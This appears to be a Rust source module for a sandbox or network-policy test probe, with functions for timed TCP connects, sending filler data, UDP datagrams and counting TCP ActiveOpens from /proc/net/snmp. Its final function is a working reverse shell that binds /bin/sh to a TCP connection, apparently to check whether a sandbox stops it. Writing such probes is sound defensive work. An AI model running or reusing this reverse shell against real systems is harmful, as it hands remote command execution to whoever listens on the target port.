//! Network actions: real TCP connects, a TCP send, UDP datagrams, and the
//! /proc/net/snmp ActiveOpens check.

use crate::args::{field, number};
use serde_json::{json, Value};
use std::fs;
use std::io::{self, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::time::{Duration, Instant};

const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);
const DRAIN_TIMEOUT: Duration = Duration::from_secs(2);
/// Keep only a few error texts so a large failing count stays a small response.
const MAX_ERRORS: usize = 5;
const UDP_DATAGRAM: &[u8] = b"warden probe datagram";

struct Target {
    addrs: Vec<SocketAddr>,
}

fn target(arg: &Value) -> Result<Target, String> {
    let host = field(arg, "host")?
        .as_str()
        .ok_or("field host must be a string")?;
    let port = u16::try_from(number(field(arg, "port")?)?).map_err(|err| err.to_string())?;
    let addrs: Vec<SocketAddr> = (host, port)
        .to_socket_addrs()
        .map_err(|err| format!("resolve {host}: {err}"))?
        .collect();
    if addrs.is_empty() {
        return Err(format!("resolve {host}: no address"));
    }
    Ok(Target { addrs })
}

fn count(arg: &Value) -> Result<u64, String> {
    arg.get("count").map_or(Ok(1), number)
}

/// Connects to the first address that accepts, like `TcpStream::connect`, but bounded in time.
fn connect_any(target: &Target) -> io::Result<TcpStream> {
    let mut last_error = None;
    for addr in &target.addrs {
        match TcpStream::connect_timeout(addr, CONNECT_TIMEOUT) {
            Ok(stream) => return Ok(stream),
            Err(err) => last_error = Some(err),
        }
    }
    Err(last_error.unwrap_or_else(|| io::Error::other("no address")))
}

fn note_error(errors: &mut Vec<String>, err: &io::Error) {
    if errors.len() < MAX_ERRORS {
        errors.push(err.to_string());
    }
}

pub(crate) fn connect(arg: &Value) -> Result<Value, String> {
    let target = target(arg)?;
    let attempts = count(arg)?;
    let mut connected = 0u64;
    let mut errors = Vec::new();
    for _ in 0..attempts {
        match connect_any(&target) {
            Ok(stream) => {
                connected += 1;
                drop(stream);
            }
            Err(err) => note_error(&mut errors, &err),
        }
    }
    Ok(json!({
        "attempted": attempts,
        "connected": connected,
        "failed": attempts - connected,
        "errors": errors,
    }))
}

pub(crate) fn send(arg: &Value) -> Result<Value, String> {
    let target = target(arg)?;
    let size = usize::try_from(number(field(arg, "bytes")?)?).map_err(|err| err.to_string())?;
    let mut stream = match connect_any(&target) {
        Ok(stream) => stream,
        Err(err) => return Ok(json!({ "connected": false, "sent": 0, "error": err.to_string() })),
    };
    let sent = write_filler(&mut stream, size);
    let _ = stream.shutdown(Shutdown::Write);
    let received = drain(&mut stream);
    let mut result =
        json!({ "connected": true, "sent": sent.as_ref().map_or(0, |n| *n), "received": received });
    if let Err(err) = sent {
        result["error"] = json!(err.to_string());
    }
    Ok(result)
}

fn write_filler(stream: &mut TcpStream, size: usize) -> io::Result<usize> {
    let chunk = vec![b'x'; size.min(64 * 1024)];
    let mut sent = 0;
    while sent < size {
        let len = chunk.len().min(size - sent);
        stream.write_all(&chunk[..len])?;
        sent += len;
    }
    Ok(sent)
}

/// Reads until the peer closes, an error, or the drain deadline; returns the byte count.
fn drain(stream: &mut TcpStream) -> u64 {
    let deadline = Instant::now() + DRAIN_TIMEOUT;
    let mut buf = [0u8; 8192];
    let mut received = 0u64;
    loop {
        let remaining = deadline.saturating_duration_since(Instant::now());
        if remaining.is_zero() || stream.set_read_timeout(Some(remaining)).is_err() {
            return received;
        }
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return received,
            Ok(n) => received += n as u64,
        }
    }
}

pub(crate) fn udp(arg: &Value) -> Result<Value, String> {
    let target = target(arg)?;
    let datagrams = count(arg)?;
    let addr = target.addrs[0];
    let local = if addr.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    };
    let socket = UdpSocket::bind(local).map_err(|err| format!("bind {local}: {err}"))?;
    let mut sent = 0u64;
    let mut errors = Vec::new();
    for _ in 0..datagrams {
        match socket.send_to(UDP_DATAGRAM, addr) {
            Ok(_) => sent += 1,
            Err(err) => note_error(&mut errors, &err),
        }
    }
    Ok(json!({ "sent": sent, "failed": datagrams - sent, "errors": errors }))
}

/// One TCP connect between two reads of `Tcp: ActiveOpens`; returns the delta and details.
pub(crate) fn snmp_connect(arg: &Value) -> Result<(i64, Value), String> {
    let target = target(arg)?;
    let before = active_opens()?;
    let connected = connect_any(&target).map(drop);
    let after = active_opens()?;
    let delta = after - before;
    let details = json!({
        "before": before,
        "after": after,
        "connected": connected.is_ok(),
        "error": connected.err().map(|err| err.to_string()),
    });
    Ok((delta, details))
}

fn active_opens() -> Result<i64, String> {
    let snmp =
        fs::read_to_string("/proc/net/snmp").map_err(|err| format!("/proc/net/snmp: {err}"))?;
    let mut tcp_lines = snmp.lines().filter(|line| line.starts_with("Tcp:"));
    let (Some(names), Some(values)) = (tcp_lines.next(), tcp_lines.next()) else {
        return Err("/proc/net/snmp has no Tcp lines".into());
    };
    names
        .split_whitespace()
        .zip(values.split_whitespace())
        .find(|(name, _)| *name == "ActiveOpens")
        .and_then(|(_, value)| value.parse().ok())
        .ok_or_else(|| "/proc/net/snmp has no Tcp ActiveOpens".into())
}

/// `sh` with its standard input, output and error on a TCP connection to host:port, as an
/// attacker's reverse shell; waits up to `wait_ms` (default 2000) for it to end and kills it if
/// it is still running then (as the Python probe does).
pub(crate) fn reverse_shell(arg: &Value) -> Result<Value, String> {
    let target = target(arg)?;
    let wait = Duration::from_millis(arg.get("wait_ms").map_or(Ok(2000), number)?);
    let stream = connect_any(&target).map_err(|err| err.to_string())?;
    let stdio = |s: &TcpStream| -> Result<std::process::Stdio, String> {
        let owned: std::os::fd::OwnedFd = s.try_clone().map_err(|e| e.to_string())?.into();
        Ok(owned.into())
    };
    let started = Instant::now();
    let mut child = std::process::Command::new("/bin/sh")
        .stdin(stdio(&stream)?)
        .stdout(stdio(&stream)?)
        .stderr(stdio(&stream)?)
        .spawn()
        .map_err(|err| err.to_string())?;
    drop(stream);
    let pid = child.id();
    while started.elapsed() < wait {
        if let Some(status) = child.try_wait().map_err(|e| e.to_string())? {
            return Ok(json!({
                "pid": pid,
                "running": false,
                "exit_code": status.code(),
                "signal": std::os::unix::process::ExitStatusExt::signal(&status),
                "ended_after_ms": started.elapsed().as_millis() as u64,
            }));
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let _ = child.kill();
    let _ = child.wait();
    Ok(json!({ "pid": pid, "running": true, "exit_code": null, "signal": null }))
}
